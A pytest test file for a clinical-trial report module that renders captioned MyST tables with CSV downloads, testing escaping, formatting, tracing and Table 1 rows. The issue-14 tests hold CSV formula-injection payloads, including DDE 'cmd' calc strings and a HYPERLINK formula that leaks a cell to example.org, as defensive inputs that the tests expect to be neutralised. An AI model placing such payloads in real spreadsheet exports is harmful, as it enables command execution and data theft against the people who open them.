"""Numbered, captioned tables with CSV downloads (nscore.report.tables).

The rendering route is checked end to end in two ways: the MyST source a Table emits is parsed by
myst-parser's docutils parser here (a real <table> with a <caption>), and the full book build
(tests/test_book.py) numbers it. Expected values below are worked out by hand in each test.
"""

from __future__ import annotations

import base64
import math
import re
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from nscore.report import cutoffs, format as fmt, panel, tables
from nscore.report.tables import Table, TableError


def _frame():
    return pd.DataFrame({"Group": ["A", "B*", "<i>C</i>"], "N (%)": ["12 (50.0)", "6 (25.0)", None]})


def _render_html(myst: str) -> str:
    """Render MyST text to HTML with docutils (no Sphinx): the list-table directive is standard."""
    from docutils.core import publish_string
    from myst_parser.parsers.docutils_ import Parser

    out = publish_string(myst, parser=Parser(), writer_name="html5",
                         settings_overrides={"myst_enable_extensions": [], "report_level": 2, "halt_level": 2,
                                             "output_encoding": "unicode"})
    return out


def test_myst_source_is_a_named_captioned_list_table():
    t = tables.table(_frame(), name="tbl-demo", caption="Demo caption.", notes="A note.")
    src = t.to_myst()
    assert src.startswith("````{list-table} Demo caption.\n:name: tbl-demo\n:header-rows: 1\n")
    assert "* - Group\n  - N (%)\n" in src
    assert "\nA note.\n" in src
    # only Markdown: myst-nb would prefer text/html and skip the numbered directive
    assert t._repr_markdown_() == src
    assert not hasattr(t, "_repr_html_")


def test_rendered_html_is_a_table_with_caption_and_escaped_cells():
    t = tables.table(_frame(), name="tbl-demo", caption="Demo caption.")
    html = _render_html(t.to_myst())
    assert re.search(r"<table[^>]*\bid=\"tbl-demo\"", html)
    assert re.search(r"<caption>.*Demo caption\..*</caption>", html, re.S)
    assert "<th" in html and html.count("<tr") == 4  # header + 3 rows
    # markup characters in cells are shown literally, not interpreted
    assert "B*" in html and "&lt;i&gt;C&lt;/i&gt;" in html and "<i>C</i>" not in html.split("download")[0]


def test_csv_download_decodes_to_the_table():
    t = tables.table(_frame(), name="tbl-demo", caption="Demo.")
    m = re.search(r'href="data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)" download="tbl-demo.csv"',
                  t.to_myst())
    assert m, "CSV download link missing"
    csv = base64.b64decode(m.group(1)).decode("utf-8")
    assert csv.splitlines()[0] == "Group,N (%)"
    assert csv.splitlines()[1] == "A,12 (50.0)"
    assert csv.splitlines()[3] == "<i>C</i>,"  # missing value -> empty CSV field


@pytest.mark.parametrize("value, expected", [
    (None, "\u00a0"), (float("nan"), "\u00a0"), ("", "\u00a0"),
    ("a*b_c", r"a\*b\_c"), ("- 5", r"\- 5"), ("1. first", r"\1. first"), ("{x}", r"\{x\}"),
    (">=20%", r"\>=20%"), ("$5", r"\$5"),
])
def test_cell_escaping(value, expected):
    assert tables._cell(value) == expected


@pytest.mark.parametrize("kw, rule", [
    ({"name": "table-1"}, "tbl-"),
    ({"name": "tbl-Upper"}, "tbl-"),
    ({"caption": ""}, "caption"),
    ({"caption": "two\nlines"}, "caption"),
])
def test_bad_name_or_caption_is_refused(kw, rule):
    args = {"frame": _frame(), "name": "tbl-ok", "caption": "ok"} | kw
    with pytest.raises(TableError, match=rule):
        Table(**args)


def test_patient_level_columns_are_refused():
    with pytest.raises(TableError, match="USUBJID"):
        tables.table(pd.DataFrame({"USUBJID": ["NCT04572308-0001"], "AGE": [3]}), "tbl-x", "x")


def test_grouped_index_labels_are_printed_once():
    idx = pd.MultiIndex.from_tuples([("Sex", "Male"), ("Sex", "Female"), ("n", "")], names=["Var", "Level"])
    t = tables.table(pd.DataFrame({"Overall": [3, 2, 5]}, index=idx), "tbl-t1", "T1", index=True)
    assert t.frame["Var"].tolist() == ["Sex", "", "n"]
    assert t.frame["Level"].tolist() == ["Male", "Female", ""]


def test_select_renames_orders_and_formats():
    f = pd.DataFrame({"a": [1, 2], "b": [0.123, 0.456], "c": ["x", "y"]})
    out = tables.select(f, {"c": "C", "b": "B"}, formats={"b": "{:.1f}"})
    assert out.columns.tolist() == ["C", "B"] and out["B"].tolist() == ["0.1", "0.5"]
    with pytest.raises(TableError, match="zz"):
        tables.select(f, {"zz": "Z"})


def test_lookup_needs_exactly_one_row():
    f = pd.DataFrame({"k": ["a", "b", "b"], "display": ["1", "2", "3"]})
    assert tables.lookup(f, k="a") == "1"
    with pytest.raises(TableError, match="found 2"):
        tables.lookup(f, k="b")
    with pytest.raises(TableError, match="found 0"):
        tables.lookup(f, k="z")


def test_grade_table_pivots_counts_and_percentages():
    # 4 patients: CRS grades 0,1,1,3 ; ICANS grades 0,0,0,2
    rows = []
    for syndrome, counts in (("CRS", {0: 1, 1: 2, 3: 1}), ("ICANS", {0: 3, 2: 1})):
        for g in range(6):
            n = counts.get(g, 0)
            rows.append({"syndrome": syndrome, "grade": g, "n": n, "percent": 100 * n / 4})
    out = tables.grade_table(pd.DataFrame(rows))
    assert out["Maximum ASTCT grade"].tolist() == ["No event", "1", "2", "3", "4", "5"]
    assert out.loc[1, "CRS"] == "2 (50.0%)" and out.loc[2, "ICANS"] == "1 (25.0%)"


def test_wide_keeps_first_appearance_order():
    f = pd.DataFrame({"syndrome": ["CRS", "CRS", "ICANS", "ICANS"], "level": ["DL2", "DL1", "DL2", "DL1"],
                      "display": ["a", "b", "c", "d"]})
    out = tables.wide(f, "level", "syndrome", "display", index_label="Dose")
    assert out.columns.tolist() == ["Dose", "CRS", "ICANS"]
    assert out["Dose"].tolist() == ["DL2", "DL1"] and out["ICANS"].tolist() == ["c", "d"]


@pytest.mark.parametrize("args, text", [
    ((547.0, 480.0, math.inf), "18.0 months (95% CI 15.8\u2013NR)"),
    ((math.inf, 900.0, math.inf), "not reached (95% CI 29.6\u2013NR)"),
    ((math.inf, math.inf, math.inf), "not reached"),
    ((math.inf, float("nan"), math.inf), "not reached"),
    ((5.0, float("nan"), math.inf), "0.2 months (95% CI NE\u2013NR)"),
    ((float("nan"), float("nan"), float("nan")), "not estimable"),
])
def test_median_text(args, text):
    assert fmt.median(*args) == text


@pytest.mark.parametrize("p, text", [(0.17, "p = 0.17"), (0.0123, "p = 0.012"), (0.00004, "p < 0.001"),
                                     (float("nan"), "p not computed")])
def test_p_text(p, text):
    assert fmt.p_value(p) == text


def test_km_summary_reads_the_fitted_curve():
    # Freireich 6-MP arm (Gehan 1965), 21 patients, 9 relapses. R's survival package:
    # > survfit(Surv(time, cens) ~ 1, data = subset(MASS::gehan, treat == "6-MP"), conf.type = "log")
    # n = 21, events = 9, median = 23, 0.95LCL = 16, 0.95UCL = NA
    from nscore.statistics import survival

    t = [6, 6, 6, 6, 7, 9, 10, 10, 11, 13, 16, 17, 19, 20, 22, 23, 25, 32, 32, 34, 35]
    e = [1, 1, 1, 0, 1, 0, 1, 0, 0, 1, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0, 0]
    adtte = pd.DataFrame({"USUBJID": [f"S-{i}" for i in range(21)], "PARAMCD": "OS", "AVAL": t,
                          "CNSR": [1 - x for x in e]})
    km = survival.kaplan_meier(adtte, "OS", ci="log")
    out = tables.km_summary({"OS": km}, years=())
    assert out.loc[0, "Patients"] == 21 and out.loc[0, "Events"] == 9
    # 23 and 16 days in months (tables.TIME_UNIT; 1 month = 30.4375 days)
    assert out.loc[0, "Median (95% CI)"].startswith("0.8 months (95% CI 0.5\u2013NR)")


def test_changes_table_lines_up_cutoffs():
    comp = pd.DataFrame({"key": ["orr"], "label": ["ORR"], "unit": ["%"], "2025-08-01": [86.3],
                         "2025-08-01 display": ["86.3%"], "2026-02-01": [86.3], "2026-02-01 display": ["86.3%"],
                         "change": [0.0], "change_display": ["+0.0 percentage points"]})
    from nscore.report import presenters

    out = presenters.changes_table(comp)
    assert out.columns.tolist() == ["Figure", "2025-08-01", "2026-02-01", "Change (latest vs previous)"]


def test_dataset_summary_counts_rows_only():
    c = SimpleNamespace(adsl=pd.DataFrame({"USUBJID": ["a", "b"]}), adrs=pd.DataFrame({"x": [1]}),
                        adtte=pd.DataFrame({"x": [1, 2, 3, 4]}), adae=pd.DataFrame({"x": []}))
    out = tables.dataset_summary(c)
    assert out["Rows"].tolist() == [2, 1, 4, 0]
    assert "USUBJID" not in out.columns


def test_version_and_bundle_links_are_relative_and_raw_html():
    md = cutoffs.version_links([date(2025, 8, 1), date(2026, 2, 1)], current=date(2026, 2, 1)).data
    assert 'href="../v/2025-08-01/index.html"' in md and "(this version)" in md
    link = cutoffs.bundle_link(date(2025, 8, 1)).data
    assert 'href="../_downloads/reviewer-bundle-2025-08-01.zip"' in link


def test_expert_profiles_render_from_yaml(tmp_path):
    from nscore.data.versions import project_root

    md = panel.expert_profiles(project_root() / "data" / "experts.yml").data
    assert md.count(":::{admonition}") == 2
    assert "Lu Peihua, MD, PhD" in md and "Zhang Xian, MD, PhD" in md
    bad = tmp_path / "e.yml"
    bad.write_text("experts:\n  - name: X\n", encoding="utf-8")
    with pytest.raises(TableError, match="lacks"):
        panel.expert_profiles(bad)


def test_cell_starting_with_percent_is_not_a_myst_comment():
    # MyST reads a line that starts with % as a comment: a header "% of evaluable" came out empty
    from myst_parser.parsers.mdit import create_md_parser
    from myst_parser.config.main import MdParserConfig
    from myst_parser.mdit_to_docutils.base import DocutilsRenderer

    md = create_md_parser(MdParserConfig(), DocutilsRenderer)
    text = tables._cell("% of evaluable")
    tokens = md.parse("* - " + text + "\n")
    assert not any(t.type == "myst_line_comment" for t in tokens)
    assert "% of evaluable" in "".join(t.content for t in tokens if t.type == "inline")


# --------------------------------------------------------------- missing values never read "n/a"
def test_formatters_left_tables_for_format():
    """The formatters moved to nscore.report.format (issue 13): tables only presents."""
    for gone in ("pct", "ci_text", "rate_text", "range_text", "median_ci_text", "survival_text", "p_text",
                 "logrank_text", "hr_text", "ci_transform_text"):
        assert not hasattr(tables, gone), gone


def test_table_cells_carry_their_ard_key():
    from nscore.report import trace

    frame = pd.DataFrame({"Figure": ["ORR", "CR"], "Estimate": [trace.traced("86.3%", "efficacy.orr"), "50.0%"]})
    t = tables.table(frame, "tbl-x", "Caption", keys={(1, "Estimate"): "efficacy.cr_cri"})
    text = t.to_myst()
    assert "  - {ard}`86.3% <efficacy.orr>`" in text and "  - {ard}`50.0% <efficacy.cr_cri>`" in text
    assert "ard" not in t.csv() and "86.3%" in t.csv()
    grid = tables.table(frame, "tbl-y", "Caption", row_kinds=("", ""), keys={(1, "Estimate"): "efficacy.cr_cri"})
    text = grid.to_myst()
    assert ":ard:`86.3% <efficacy.orr>`" in text and ":ard:`50.0% <efficacy.cr_cri>`" in text
    with pytest.raises(TableError):
        tables.table(frame, "tbl-z", "Caption", keys={(5, "Estimate"): "efficacy.orr"})


def test_dataset_summary_leaves_out_what_was_not_collected():
    c = SimpleNamespace(adsl=pd.DataFrame({"USUBJID": ["a"]}), adrs=pd.DataFrame({"x": []}),
                        adtte=pd.DataFrame({"x": [1, 2]}), adae=None)
    out = tables.dataset_summary(c)
    assert out["Dataset"].tolist() == ["ADSL", "ADRS", "ADTTE"] and out["Rows"].tolist() == [1, 0, 2]


def test_versions_table_and_origin_say_simulated_or_real():
    manifests = [
        {"cutoff": "2025-08-01", "version": "a", "files": {"adsl.csv": {"rows": 334}},
         "source": {"simulated": True, "generator": "nscore.data.simulate", "seed": 1}},
        {"cutoff": "2026-02-01", "version": "b", "files": {"adsl.csv": {"rows": 600}},
         "source": {"simulated": False, "origin": "Sponsor export"}},
        {"cutoff": "2026-03-01", "version": "c", "files": {"adsl.csv": {"rows": 5}}},
    ]
    t = cutoffs.versions_table(manifests)
    assert t["Data"].tolist() == ["simulated", "real", "real"]
    assert t["Origin"].tolist() == ["generated by nscore.data.simulate, seed 1", "Sponsor export",
                                    "delivered export (no origin recorded)"]
    assert "n/a" not in t.to_string()
    assert cutoffs.origin_text({"simulated": True}) == "generator not recorded"


def test_version_links_mark_simulated_and_real(tmp_path):
    import json

    from nscore.data import versions

    for iso, sim in (("2025-08-01", True), ("2026-02-01", False)):
        d = tmp_path / versions.CUTOFFS / iso
        d.mkdir(parents=True)
        (d / "manifest.json").write_text(json.dumps({"cutoff": iso, "source": {"simulated": sim}}), encoding="utf-8")
    md = cutoffs.version_links([date(2025, 8, 1), date(2026, 2, 1)], current=date(2026, 2, 1), data_dir=tmp_path).data
    assert "Data cutoff 2025-08-01</a> (simulated data)</li>" in md
    assert "Data cutoff 2026-02-01</a> (real data) (this version)</li>" in md
    assert "simulated" not in cutoffs.version_links([date(2025, 8, 1)]).data  # without data_dir: no claim
    assert "(real patient data)" in cutoffs.bundle_link(date(2026, 2, 1), simulated=False).data
    assert "simulated" not in cutoffs.bundle_link(date(2026, 2, 1), simulated=False).data


def test_experts_study_key():
    from nscore.data.versions import project_root

    assert panel.experts_study(project_root() / "data" / "experts.yml") == "NS7CAR-POOLED"


# --------------------------------------------------------------------------------------------------
# issue 14: CSV downloads never carry a spreadsheet formula
# --------------------------------------------------------------------------------------------------
def _download(t: Table) -> str:
    m = re.search(r'href="data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)"', t.to_myst())
    return base64.b64decode(m.group(1)).decode("utf-8")


@pytest.mark.parametrize("text, expected", [
    ('=HYPERLINK("http://example.org","x")', '\'=HYPERLINK("http://example.org","x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-<0.1", "'-<0.1"),        # text to a spreadsheet (it would try to evaluate it): neutralised
    ("+2.3 pp", "'+2.3 pp"),
    ("-0.5", "-0.5"),           # a plain number stays a number
    ("+2.3", "+2.3"),
    ("-12%", "-12%"),
    ("-1.5e-3", "-1.5e-3"),
    ("DL1", "DL1"),
    ("a=b", "a=b"),             # only the first character counts
    ("", ""),
])
def test_csv_safe_neutralises_formula_text_only(text, expected):
    assert tables.csv_safe(text) == expected


def test_csv_safe_leaves_non_text_values_alone():
    for v in (-0.5, -3, 0, None, float("nan"), True, pd.Timestamp("2025-08-01")):
        assert tables.csv_safe(v) is v


def test_csv_download_neutralises_formulas_without_changing_numbers():
    frame = pd.DataFrame({"=Level": ["=1+1", "DL1", "-<0.1"], "Change": [-0.5, 1.25, -3.0],
                          "N": [-1, 2, 3], "Text number": ["-0.5", "+1", "@x"]})
    t = tables.table(frame, name="tbl-demo", caption="Demo.")
    lines = _download(t).splitlines()
    assert lines == ["'=Level,Change,N,Text number", "'=1+1,-0.5,-1,-0.5", "DL1,1.25,2,+1",
                     "'-<0.1,-3.0,3,'@x"]
    # the page's own table is unchanged: only the download is neutralised
    assert "=1+1" in t.to_myst() and "'=1+1" not in t.to_myst().split("<a ")[0]
    assert list(t.frame.columns)[0] == "=Level"


def test_dose_level_label_from_a_delivery_is_not_a_formula_in_the_download(tmp_path, small_frames):
    """A delivery whose dose-level label is a formula (study.yml and ADSL agree): Table 1's CSV is safe."""
    import yaml

    from nscore.analyses import baseline as baseline_analyses
    from nscore.data.load import load_cohort
    from nscore.data.simulate import write_cohort

    evil = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'
    frames = {k: v.copy() for k, v in small_frames.items()}
    frames["adsl"]["DOSELVL"] = frames["adsl"]["DOSELVL"].replace({"DL1": evil})
    delivery = tmp_path / "delivery"
    write_cohort(frames, delivery)
    study = yaml.safe_load((Path(__file__).parents[1] / "data" / "study.yml").read_text(encoding="utf-8"))
    study.pop("published", None)
    for level in study["dose_levels"]:
        if level["code"] == "DL1":
            level["code"] = evil
    (delivery / "study.yml").write_text(yaml.safe_dump(study, sort_keys=False), encoding="utf-8")
    cohort = load_cohort(delivery)
    assert evil in set(cohort.adsl["DOSELVL"])
    baseline = baseline_analyses.baseline_table(cohort)
    t = tables.table(baseline.table, name="tbl-baseline", caption="Baseline.", header=baseline.header,
                     row_kinds=baseline.row_kinds)
    import csv
    import io

    rows = list(csv.reader(io.StringIO(_download(t))))
    cells = [c for row in rows for c in row]
    # Table 1 labels a defined dose level with its dose: the label still starts with the formula
    assert [c for c in cells if c.startswith("'" + evil)]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[0-9.]+%?", c)]


def _spanned():
    frame = pd.DataFrame({"Characteristic": ["Sex, n (%)", "Male", "- *odd* |x| 1. `y`"],
                          "Overall (n = 3)": ["", "2 (66.7)", "\u226520%"],
                          "A (n = 2)": ["", "1 (50.0)", ""], "B (n = 1)": ["", "1 (100.0)", "x_"]})
    return tables.table(frame, name="tbl-span", caption="Spanned (caption).", notes="A note.",
                        header=(("", 1), ("", 1), ("By group", 2)), row_kinds=("group", "indent", ""))


def test_spanning_header_renders_as_a_grid_table_with_colspan_and_rowspan():
    t = _spanned()
    src = t.to_myst()
    assert src.startswith("````{eval-rst}\n.. table:: Spanned \\(caption\\)\\.\n   :name: tbl-span\n")
    assert "\nA note.\n" in src and "Download this table as CSV" in src
    html = _render_html(src)
    assert re.search(r"<table[^>]*\bid=\"tbl-span\"", html)
    assert re.search(r"<caption>.*Spanned \(caption\)\..*</caption>", html, re.S)
    head = html.split("<thead>")[1].split("</thead>")[0]
    assert re.search(r'<th class="head" rowspan="2"><p>Characteristic</p>', head)
    # "(n = 3)" is not broken inside on the page: no-break spaces around "=" (the CSV keeps spaces)
    assert re.search(r'<th class="head" rowspan="2"><p>Overall \(n\u00a0=\u00a03\)</p>', head)
    assert re.search(r'<th class="head" colspan="2"><p>By group</p>', head)
    assert head.count("<tr") == 2 and "A (n\u00a0=\u00a02)" in head and "B (n\u00a0=\u00a01)" in head
    body = html.split("<tbody>")[1].split("</tbody>")[0]
    assert "<strong>Sex, n (%)</strong>" in body
    assert "<p>\u2003\u2003Male</p>" in body               # indented by two em spaces
    # markup characters shown literally (no list, emphasis, substitution, literal or reference)
    assert "<p>- *odd* |x| 1. `y`</p>" in body and "<p>x_</p>" in body and "\u226520%" in body
    # the CSV is the frame: one header row, no markup
    rows = _download(t).splitlines()
    assert rows[0] == "Characteristic,Overall (n = 3),A (n = 2),B (n = 1)"
    assert rows[2] == "Male,2 (66.7),1 (50.0),1 (100.0)"


def test_spanning_header_must_cover_the_columns():
    frame = pd.DataFrame({"a": [1], "b": [2]})
    with pytest.raises(TableError, match="spanning header"):
        tables.table(frame, name="tbl-x", caption="c", header=(("", 1), ("G", 2)))
    with pytest.raises(TableError, match="row kinds"):
        tables.table(frame, name="tbl-x", caption="c", row_kinds=("group", "indent"))
    with pytest.raises(TableError, match="row kinds"):
        tables.table(frame, name="tbl-x", caption="c", row_kinds=("bold",))


def test_baseline_table_renders_with_its_spanning_header():
    from nscore.analyses import baseline as baseline_analyses
    from nscore.data import versions

    baseline = baseline_analyses.baseline_table(versions.load("data", "2025-08-01"))
    t = tables.table(baseline.table, name="tbl-baseline", caption="Baseline.", header=baseline.header,
                     row_kinds=baseline.row_kinds)
    html = _render_html(t.to_myst())
    assert '<th class="head" colspan="5"><p>By diagnosis</p>' in html
    assert "<p>\u2003\u2003DL1 (0.5 \u00d7 10\u2076 cells/kg)</p>" in html
    assert html.count("<tr") == 2 + len(baseline.table)


# ----------------------------------------------------------------------- ARD-traced presenters
def test_presenters_trace_every_number_and_keep_the_layout():
    """Table 1, the response and safety tables: every number cell carries a key whose rows give
    its text through nscore.report.format; Table 1 keeps the analysis's layout and text (up to the
    one rounding rule: half-up, where the analysis's own text rounded 39.25 to 39.2)."""
    from nscore.analyses import baseline as bl, efficacy, safety
    from nscore.data import versions
    from nscore.report import presenters, trace

    cohort = versions.load(str(Path(__file__).resolve().parents[1] / "data"), "latest")
    b = bl.baseline_table(cohort)
    shown = presenters.baseline_display(b)
    assert list(shown.columns) == list(b.table.columns) and len(shown) == len(b.table)
    differ = [(i, j) for i in range(len(shown)) for j in range(shown.shape[1])
              if str(shown.iat[i, j]) != str(b.table.iat[i, j])]
    assert len(differ) <= 1, [(str(b.table.iat[i, j]), str(shown.iat[i, j])) for i, j in differ]
    keyed = [v for v in shown.values.ravel() if isinstance(v, trace.Traced)]
    assert len(keyed) > 100
    rows = b.rows()
    for v in keyed:
        assert trace.resolve(rows, v.key), v.key
    rates = efficacy.response_rates(cohort)
    resp = presenters.response_display(rates)
    assert str(resp.iat[0, 3]) == "86.3% (284/329; 95% CI 82.1\u201389.8)" and resp.iat[0, 3].key == "efficacy.orr"
    inc = {s: safety.incidence(cohort, s) for s in safety.syndromes(cohort)}
    assert all(isinstance(v, trace.Traced) for v in presenters.incidence_display(inc).iloc[:, 2])


def test_results_links_point_at_the_files_the_build_writes():
    """The appendix's links to the analysis-results dataset are the names nscore.build.site writes
    (``ard/ard-<cutoff>...`` beside the version's pages), relative to a chapter page."""
    from nscore.build.site import RESULTS_DIR

    html = cutoffs.results_links(date(2026, 2, 1)).data
    for name in ("ard-2026-02-01.csv", "ard-2026-02-01.parquet", "ard-2026-02-01-dictionary.csv"):
        assert f'href="../{RESULTS_DIR}/{name}" download="{name}"' in html


def test_table1_optional_rows_shown_when_collected_and_named_when_not():
    """Issue 15: rows a reader expects (prior lines, disease status, extramedullary/CNS disease, time
    from a prior transplant to relapse) appear when the delivery has their optional ADSL column, and
    the notes name the ones it has not; time to relapse applies to transplanted patients only."""
    import dataclasses

    import numpy as np
    from nscore.analyses import baseline as bl
    from nscore.data import versions
    from nscore.report import presenters
    from nscore.report.prose import results as prose

    cohort = versions.load(str(Path(__file__).parents[1] / "data"), "2025-08-01")
    inputs = ["PRLINES", "DISSTAT", "EMDFL", "CNSFL", "HCTRELDY"]
    bare = cohort.adsl.drop(columns=[c for c in inputs if c in cohort.adsl.columns])
    plain = bl.baseline_table(dataclasses.replace(cohort, adsl=bare))
    assert set(plain.not_collected) == set(bl._T1_OPTIONAL)
    assert "Not collected: prior lines of therapy" in prose.baseline_notes(plain)
    empty = bare.assign(CNSFL=None)  # delivered empty: not collected either
    assert "CNSFL" in bl.baseline_table(dataclasses.replace(cohort, adsl=empty)).not_collected
    adsl = bare.copy()
    prior = adsl["PRIORHCT"].fillna(0).to_numpy() > 0
    adsl["PRLINES"] = np.arange(len(adsl)) % 4 + 1
    adsl["EMDFL"] = np.where(np.arange(len(adsl)) % 3 == 0, "Y", "N")
    adsl["HCTRELDY"] = np.where(prior, 365.25, np.nan)
    fuller = dataclasses.replace(cohort, adsl=adsl)
    table = bl.baseline_table(fuller)
    assert set(table.not_collected) == {"DISSTAT", "CNSFL"}
    labels = [str(x).strip() for x in table.table["Characteristic"]]
    assert bl._T1_LABELS["PRLINES"] in labels and bl._T1_LABELS["EMDFL"] in labels
    assert bl._T1_LABELS["DISSTAT"] not in labels
    # time to relapse: 12.0 months for every transplanted patient, no "Unknown" for the others
    at = labels.index(bl._T1_LABELS["HCTREL"])
    assert labels[at + 1:at + 3] == ["Median (IQR)", "Range"] and labels[at + 3] != "Unknown"
    assert table.table.iat[at + 1, 1] == "12.0 (12.0\u201312.0)"
    hct = table.summaries[(table.summaries["variable"] == "HCTREL") & (table.summaries["group"] == "Overall")]
    assert int(hct["n"].iloc[0]) == int(prior.sum())
    shown = presenters.baseline_display(table)  # every cell still traced to its ARD row
    assert str(shown.iat[at + 1, 1]) == "12.0 (12.0\u201312.0)"
    notes = prose.baseline_notes(table)
    assert "disease status at infusion and CNS involvement are not part" in notes
    assert "among patients with a prior allo-HCT, in months" in notes


def test_time_unit_convention_is_stated_once():
    from nscore.report import tables as t

    assert t.TIME_UNIT == "months" and t.EARLY_TIME_UNIT == "days"
    assert abs(t.DAYS_PER_MONTH - 30.4375) < 1e-9
    assert "months from infusion" in t.time_convention() and "30.44 days" in t.time_convention()


def test_tables_typeset_relations_and_ranges_but_never_keys():
    """One convention on every page: "\u2265" not ">=", "1\u20132" not "1-2" (issue 15); role keys,
    dates and ids are left alone."""
    assert tables.typeset("Grade >=3 CRS; Grade 1-2; 0.5-1.2; <=5") == "Grade \u22653 CRS; Grade 1\u20132; 0.5\u20131.2; \u22645"
    for same in ("cutoff 2026-02-01", "NCT04916860", "ard-2026-02-01.csv", "v1.2-3", "T-LBL", "1-year"):
        assert tables.typeset(same) == same
    role = "{ard}`12 <safety.crs.g3.by_blasts|BLASTS=>=20%|n>`"
    assert tables.typeset(role + " >=20%") == role + " \u226520%"
    frame = pd.DataFrame({"Maximum grade": ["Any grade", "Grade 1-2", "Grade >=3"], ">=20%": ["1", "2", "3"]})
    t = tables.table(frame, name="tbl-x", caption="Blasts >=20%.", notes="Grade 1-2 and >=3.",
                     keys={(2, ">=20%"): "safety.x|=|n"}, header=(("", 1), ("Blasts >=20%", 1)))
    assert list(t.frame.columns) == ["Maximum grade", "\u226520%"]
    assert list(t.frame["Maximum grade"]) == ["Any grade", "Grade 1\u20132", "Grade \u22653"]
    assert t.caption == "Blasts \u226520%." and t.notes == "Grade 1\u20132 and \u22653."
    assert t.keys == {(2, "\u226520%"): "safety.x|=|n"} and t.header[1][0] == "Blasts \u226520%"
    assert ">=" not in t.to_myst().split("data:text/csv")[0]
